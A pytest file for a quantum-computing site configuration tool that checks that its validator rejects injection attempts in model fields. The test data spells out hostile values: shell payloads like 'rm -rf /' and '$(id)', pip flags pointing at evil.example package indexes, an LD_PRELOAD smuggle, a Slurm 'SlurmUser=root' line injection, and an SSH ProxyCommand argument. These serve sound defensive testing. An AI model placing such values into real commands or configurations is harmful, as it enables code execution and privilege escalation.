"""Model strings cannot reach a line, a shell, an environment or pip (issue 11, finding 6).

Every string field of the site model refuses control characters by default; the
values that reach a command, a config line or a requirements file are typed
(absolute paths, PEP 508 requirements without options, Slurm key=value tokens,
QRMI environment names, IANA time zones, host names). Each class is attacked
with several variants, and every refusal names the field path and says what
to write instead, in words rather than a regular expression.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from site_survey import SiteModelError
from site_survey.loader import parse_site
from site_survey.schema import json_schema
from tests.conftest import REPO

Doc = dict[str, Any]

CONTROL = {
    "newline": "\n",
    "carriage-return": "\r",
    "nul": "\x00",
    "tab": "\t",
    "escape": "\x1b",
    "delete": "\x7f",
    "next-line": "\x85",
    "line-separator": "\u2028",
    "paragraph-separator": "\u2029",
    "vertical-tab": "\x0b",
    "form-feed": "\x0c",
}


def problems(doc: Doc) -> list[tuple[str, str]]:
    try:
        parse_site(doc)
    except SiteModelError as exc:
        return [(p.path, p.message) for p in exc.problems]
    return []


def assert_refused(doc: Doc, path_start: str) -> str:
    found = problems(doc)
    hits = [msg for path, msg in found if path.startswith(path_start)]
    assert hits, f"expected a problem at {path_start}, got {found}"
    for msg in hits:
        # plain words, not a regular expression
        assert "should match pattern" not in msg and "^" not in msg, msg
    return hits[0]


def assert_accepted(doc: Doc) -> None:
    assert problems(doc) == []


def _qpu_settings(doc: Doc) -> dict[str, str]:
    settings: dict[str, str] = doc["qpus"][0]["qrmi"]["settings"]
    return settings


# ------------------------------------------------------------ control characters


STRING_FIELDS: dict[str, tuple[str, Callable[[Doc, str], None]]] = {
    "qrmi setting value": (
        "qpus[0].qrmi.settings",
        lambda d, s: _qpu_settings(d).__setitem__("QRMI_IBM_QCS_SESSION_MODE", "dedicated" + s + "env=LD_PRELOAD=/x"),
    ),
    "contact full name": (
        "site.contacts[0].full_name",
        lambda d, s: d["site"]["contacts"][0].update(full_name="Ops" + s + "x"),
    ),
    "site description": ("site.description", lambda d, s: d["site"].update(description="a" + s + "b")),
    "qpu vendor": ("qpus[0].vendor", lambda d, s: d["qpus"][0].update(vendor="IBM" + s)),
    "account comment": (
        "software.accounts[0].comment",
        lambda d, s: d["software"]["accounts"][0].update(comment="x" + s + "y"),
    ),
    "policy user": (
        "software.policy_profiles[0].users",
        lambda d, s: d["software"]["policy_profiles"][0].update(users=["alice" + s]),
    ),
    "runtime extras": (
        "software.runtime.extras",
        lambda d, s: d["software"]["runtime"].update(extras=["qiskit-aer" + s]),
    ),
    "conf override value": (
        "software.scheduler.conf_overrides",
        lambda d, s: d["software"]["scheduler"]["conf_overrides"].update(TaskPlugin="task/none" + s + "SlurmUser=root"),
    ),
    "ansible var (nested)": (
        "ansible.vars",
        lambda d, s: d.setdefault("ansible", {}).update(vars={"x": {"y": ["ok", "a" + s]}}),
    ),
    "ansible group var": (
        "ansible.group_vars",
        lambda d, s: d.setdefault("ansible", {}).update(group_vars={"compute": {"x": "a" + s}}),
    ),
    "emulator basis gate": (
        "qpus[0].emulator.basis_gates",
        lambda d, s: d["qpus"][0]["emulator"].update(basis_gates=["cx" + s]),
    ),
    "safety control description": (
        "facility",
        lambda d, s: (
            d["facility"].setdefault("environment", []).append({"room": "server-room", "measured_on": "2026" + s})
        ),
    ),
}


@pytest.mark.parametrize("char", CONTROL.values(), ids=CONTROL.keys())
@pytest.mark.parametrize("field", STRING_FIELDS, ids=STRING_FIELDS.keys())
def test_control_characters_are_refused_in_every_string(lab: Doc, field: str, char: str) -> None:
    path, bend = STRING_FIELDS[field]
    bend(lab, char)
    message = assert_refused(lab, path)
    assert "control character" in message or "line break" in message, message
    assert f"U+{ord(char):04X}" in message, message


def test_control_character_in_a_mapping_key_is_refused(lab: Doc) -> None:
    lab.setdefault("ansible", {})["vars"] = {"ok": 1, "bad\nkey": 2}
    assert_refused(lab, "ansible.vars")


def test_huge_strings_are_refused(lab: Doc) -> None:
    lab["site"]["description"] = "x" * 100_000
    message = assert_refused(lab, "site.description")
    assert "long" in message


def test_unknown_new_string_fields_are_covered_by_the_base() -> None:
    # the rule lives in the shared base: a model written tomorrow inherits it
    from pydantic import ValidationError

    from site_survey.model import Strict

    class Tomorrow(Strict):
        note: str
        notes: dict[str, list[str]]

    Tomorrow(note="fine", notes={"a": ["b"]})
    for bad in ({"note": "a\nb", "notes": {}}, {"note": "x", "notes": {"a": ["b\u2028"]}}):
        with pytest.raises(ValidationError):
            Tomorrow.model_validate(bad)


# --------------------------------------------------------------------- QRMI keys


@pytest.mark.parametrize("key", ["qrmi_lower", "QRMI-DASH", "1QRMI", "QRMI KEY", "QRMI\nKEY", "QRMI=X", "", "ÉQRMI"])
def test_qrmi_setting_keys_are_environment_names(lab: Doc, key: str) -> None:
    _qpu_settings(lab)[key] = "x"
    message = assert_refused(lab, "qpus[0].qrmi.settings")
    assert "upper-case" in message or "control character" in message or "line break" in message


def test_qrmi_setting_values_may_hold_urls_and_colons(lab: Doc) -> None:
    _qpu_settings(lab)["QRMI_IBM_QCS_SERVICE_CRN"] = "crn:v1:x:public:quantum-computing:x:a/x::?a=b&c=d"
    assert_accepted(lab)


# ------------------------------------------------------------------ runtime.prefix


BAD_PREFIXES = [
    "relative/runtime",
    "runtime",
    "/opt/x; rm -rf /",
    "/opt/$(id)",
    "/opt/`id`",
    "/opt/${HOME}",
    "/opt/a b",
    "/opt/../etc",
    "/opt/qpusite/..",
    "/opt/./x",
    "/opt/x'y",
    '/opt/x"y',
    "/opt/x|y",
    "/opt/x&y",
    "/opt/x>y",
    "/opt/*",
    "/opt/x?",
    "/opt/~x",
    "/opt/x\\y",
    "/",
    "//opt/x",
    "/opt/x/",
    "-opt",
    "/opt/x\n",
    "/opt/" + "x" * 5000,
]


@pytest.mark.parametrize("prefix", BAD_PREFIXES)
def test_runtime_prefix_is_a_plain_absolute_path(lab: Doc, prefix: str) -> None:
    lab["software"]["runtime"]["prefix"] = prefix
    message = assert_refused(lab, "software.runtime.prefix")
    assert any(w in message for w in ("absolute path", "control character", "line break", "long")), message


@pytest.mark.parametrize("prefix", ["/opt/qpusite/runtime", "/srv/q-p_u/runtime.v2", "/opt/qpusite/runtime@1"])
def test_runtime_prefix_accepts_plain_paths(lab: Doc, prefix: str) -> None:
    lab["software"]["runtime"]["prefix"] = prefix
    assert_accepted(lab)


# ------------------------------------------------------------ pip requirements


BAD_REQUIREMENTS = [
    "--extra-index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple",
    "-i https://evil.example/simple",
    "-e git+https://evil.example/x.git#egg=x",
    "-r /etc/passwd",
    "-c constraints.txt",
    "--find-links=/tmp",
    "qiskit-aer --config-settings=x=y",
    "qiskit-aer --hash=sha256:00",
    "qiskit-aer\n--extra-index-url https://evil.example/simple",
    "evil @ https://evil.example/evil.whl",
    "evil @ file:///tmp/evil.whl",
    "qiskit-aer; python_version > '3'",
    "qiskit-aer; extra == ' --index-url=https://evil.example'",
    "qiskit-aer[gpu,--x]",
    "qiskit aer",
    "https://evil.example/evil.whl",
    "./local/dir",
    "/abs/wheel.whl",
    "",
    "qiskit-aer==",
    "qiskit-aer>=1.0 <2",
]


@pytest.mark.parametrize("extra", BAD_REQUIREMENTS)
def test_runtime_extras_are_pep508_requirements_without_options(lab: Doc, extra: str) -> None:
    lab["software"]["runtime"]["extras"] = ["pulser-simulation", extra]
    message = assert_refused(lab, "software.runtime.extras")
    assert "requirement" in message or "line break" in message or "control character" in message, message


@pytest.mark.parametrize(
    "extra",
    ["qiskit-aer", "qiskit-aer==0.15.1", "qiskit-aer[gpu]>=0.15,<1", "pulser_simulation~=1.1", "Qiskit.Aer!=2.0"],
)
def test_runtime_extras_accept_plain_requirements(lab: Doc, extra: str) -> None:
    lab["software"]["runtime"]["extras"] = [extra]
    assert_accepted(lab)


BAD_VERSIONS = [
    "0.26.4\n--extra-index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple",
    "0.26.4 --hash=sha256:00",
    "0.26.4 ",
    " 0.26.4",
    ">=0.26",
    "0.26.4; python_version>'3'",
    "latest",
    "0.26.4\r",
    "",
]


@pytest.mark.parametrize("version", BAD_VERSIONS)
def test_qrmi_version_is_one_exact_version(lab: Doc, version: str) -> None:
    lab["software"]["runtime"]["qrmi_version"] = version
    message = assert_refused(lab, "software.runtime.qrmi_version")
    assert "version" in message or "line break" in message or "control character" in message, message


@pytest.mark.parametrize("version", ["0.26.4", "1.0.0rc1", "0.27.0.post1", "2!1.0"])
def test_qrmi_version_accepts_versions(lab: Doc, version: str) -> None:
    lab["software"]["runtime"]["qrmi_version"] = version
    assert_accepted(lab)


# ------------------------------------------------------------ Slurm conf_overrides


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("TaskPlugin", "task/none\nSlurmUser=root"),
        ("TaskPlugin", "task/none SlurmUser=root"),
        ("TaskPlugin", "task/none\tSlurmUser=root"),
        ("TaskPlugin", "task/none # comment"),
        ("TaskPlugin", 'task/none"'),
        ("TaskPlugin", "task/none'"),
        ("TaskPlugin", ""),
        ("Task Plugin", "task/none"),
        ("TaskPlugin=x", "task/none"),
        ("TaskPlugin\n", "task/none"),
        ("#TaskPlugin", "task/none"),
        ("", "task/none"),
        ("Include", "/etc/slurm/$(id).conf"),
    ],
)
def test_conf_overrides_are_key_value_tokens(lab: Doc, key: str, value: str) -> None:
    lab["software"]["scheduler"]["conf_overrides"] = {key: value}
    message = assert_refused(lab, "software.scheduler.conf_overrides")
    assert "slurm.conf" in message or "line break" in message or "control character" in message, message


@pytest.mark.parametrize(
    "value",
    ["proctrack/linuxproc", "60001-63000", "bf_continue,max_rpc_cnt=150", "Alloc,Contain", 300, "/etc/slurm/x.conf"],
)
def test_conf_overrides_accept_slurm_values(lab: Doc, value: Any) -> None:
    lab["software"]["scheduler"]["conf_overrides"] = {"SchedulerParameters": value}
    assert_accepted(lab)


# ------------------------------------------------------------------ time zones


@pytest.mark.parametrize(
    "tz",
    [
        "Mars/Olympus_Mons",
        "../../etc/passwd",
        "/etc/localtime",
        "UTC\n",
        "Europe/Paris ",
        "",
        "Europe\\Paris",
        "a" * 300,
    ],
)
def test_timezone_must_be_a_known_iana_zone(lab: Doc, tz: str) -> None:
    lab["site"]["timezone"] = tz
    message = assert_refused(lab, "site.timezone")
    assert "time zone" in message or "line break" in message or "control character" in message, message


@pytest.mark.parametrize("tz", ["UTC", "Europe/Paris", "America/Argentina/Buenos_Aires", "Etc/GMT+5"])
def test_timezone_accepts_iana_zones(lab: Doc, tz: str) -> None:
    lab["site"]["timezone"] = tz
    assert_accepted(lab)


# -------------------------------------------------------------- names and hosts


@pytest.mark.parametrize(
    ("path", "bend"),
    [
        ("facility.network.domain", lambda d: d["facility"]["network"].update(domain="lab.internal\nevil")),
        ("facility.network.domain", lambda d: d["facility"]["network"].update(domain="lab internal")),
        ("facility.network.domain", lambda d: d["facility"]["network"].update(domain="lab;id")),
        ("facility.network.domain", lambda d: d["facility"]["network"].update(domain="-lab.internal")),
        ("qpus[0].access.endpoint_url", lambda d: d["qpus"][0]["access"].update(endpoint_url="http://x y")),
        ("qpus[0].access.endpoint_url", lambda d: d["qpus"][0]["access"].update(endpoint_url="http://x\n")),
        ("qpus[0].access.endpoint_url", lambda d: d["qpus"][0]["access"].update(endpoint_url="http://")),
        ("qpus[0].access.endpoint_url", lambda d: d["qpus"][0]["access"].update(endpoint_url='http://a"b')),
        ("hosts[0].connection.user", lambda d: d["hosts"][0]["connection"].update(user="root; id")),
        ("hosts[0].connection.user", lambda d: d["hosts"][0]["connection"].update(user="-oProxyCommand=id")),
        ("software.policy_profiles[0].groups", lambda d: d["software"]["policy_profiles"][0].update(groups=["a b"])),
        ("software.policy_profiles[0].users", lambda d: d["software"]["policy_profiles"][0].update(users=["$(id)"])),
        ("software.accounts[0].groups", lambda d: d["software"]["accounts"][0].update(groups=["quantum,wheel"])),
        ("software.accounts[0].comment", lambda d: d["software"]["accounts"][0].update(comment="a:b")),
        ("site.contacts[0].email", lambda d: d["site"]["contacts"][0].update(email="a@b.c\x00")),
    ],
)
def test_typed_values_refuse_what_breaks_their_consumer(lab: Doc, path: str, bend: Callable[[Doc], None]) -> None:
    bend(lab)
    assert_refused(lab, path)


@pytest.mark.parametrize(
    "key_file", ["-oProxyCommand=id", 'id" -o ProxyCommand="id', "keys/id ed25519", "$(id)", "a;b", "id\n"]
)
def test_ssh_key_paths_are_plain_file_paths(lab: Doc, key_file: str) -> None:
    lab["hosts"][0]["connection"]["private_key_file"] = key_file
    assert_refused(lab, "hosts[0].connection.private_key_file")


def test_messages_name_the_path_and_the_fix(lab: Doc) -> None:
    lab["software"]["runtime"]["prefix"] = "/opt/x; rm -rf /"
    message = assert_refused(lab, "software.runtime.prefix")
    assert "absolute path" in message and "letters" in message


def test_shipped_inventories_validate() -> None:
    for site in sorted((REPO / "inventories").glob("*/site.yaml")):
        doc = yaml.safe_load(site.read_text())
        assert problems(copy.deepcopy(doc)) == [], site


# ---------------------------------------------------------------- the CLI and schema


def test_validate_refuses_the_reported_examples(tmp_path: Path) -> None:
    lab_text = (REPO / "inventories/lab/site.yaml").read_text()
    doc = yaml.safe_load(lab_text)
    _qpu_settings(doc)["QRMI_IBM_QCS_SESSION_MODE"] = "dedicated\nenv=LD_PRELOAD=/tmp/x.so"
    doc["software"]["runtime"]["prefix"] = "/opt/x; touch /tmp/pwned #"
    doc["software"]["runtime"]["qrmi_version"] = "0.26.4\n--extra-index-url https://evil.example/simple"
    doc["software"]["runtime"]["extras"] = ["--extra-index-url https://evil.example/simple"]
    doc["software"]["scheduler"]["conf_overrides"]["TaskPlugin"] = "task/none\nSlurmUser=root"
    doc["site"]["timezone"] = "Mars/Olympus_Mons"
    path = tmp_path / "site.yaml"
    path.write_text(yaml.safe_dump(doc))
    run = subprocess.run(
        [sys.executable, "-m", "qpusite", "validate", str(path)], cwd=REPO, capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 2, run.stdout
    for field in (
        "qpus[0].qrmi.settings",
        "software.runtime.prefix",
        "software.runtime.qrmi_version",
        "software.runtime.extras",
        "software.scheduler.conf_overrides",
        "site.timezone",
    ):
        assert field in run.stderr, (field, run.stderr)
    assert "Traceback" not in run.stderr


def _walk(schema: Any) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    if isinstance(schema, dict):
        out.append(schema)
        for value in schema.values():
            out.extend(_walk(value))
    elif isinstance(schema, list):
        for value in schema:
            out.extend(_walk(value))
    return out


def test_schema_carries_the_string_rules() -> None:
    schema = json_schema()
    defs = schema["$defs"]
    # every string in the schema refuses control characters
    for node in _walk(schema):
        if node.get("type") == "string" and "enum" not in node and "const" not in node:
            patterns = [node.get("pattern")] + [a.get("pattern") for a in node.get("allOf", [])]
            patterns = [p for p in patterns if p]
            assert patterns, node
            assert any(re.fullmatch(p, "a\nb") is None for p in patterns), node
    runtime = defs["Runtime"]["properties"]
    assert runtime["prefix"]["pattern"].startswith("^(/")
    assert "extras" in runtime and runtime["extras"]["items"].get("pattern")
    assert "qrmi_version" in runtime
    assert "timezone" in defs["SiteMeta"]["properties"]
    json.dumps(schema)


def test_schema_refuses_what_the_model_refuses(lab: Doc) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(json_schema())
    for site in sorted((REPO / "inventories").glob("*/site.yaml")):
        assert list(validator.iter_errors(yaml.safe_load(site.read_text()))) == [], site
    bends: list[Callable[[Doc], None]] = [
        lambda d: _qpu_settings(d).__setitem__("QRMI_IBM_QCS_SESSION_MODE", "a\nenv=X=1"),
        lambda d: _qpu_settings(d).__setitem__("lower_case", "x"),
        lambda d: d["software"]["runtime"].update(prefix="/opt/x; id"),
        lambda d: d["software"]["runtime"].update(extras=["--extra-index-url=https://evil.example"]),
        lambda d: d["software"]["runtime"].update(qrmi_version="0.26.4 --hash=x"),
        lambda d: d["software"]["scheduler"]["conf_overrides"].update({"Bad Key": "x"}),
        lambda d: d["software"]["scheduler"]["conf_overrides"].update(TaskPlugin="a b"),
        lambda d: d["site"].update(description="a\u2028b"),
        lambda d: d.setdefault("ansible", {}).update(vars={"a\nb": 1}),
    ]
    for bend in bends:
        doc = copy.deepcopy(lab)
        bend(doc)
        assert list(validator.iter_errors(doc)), doc
        assert problems(doc)
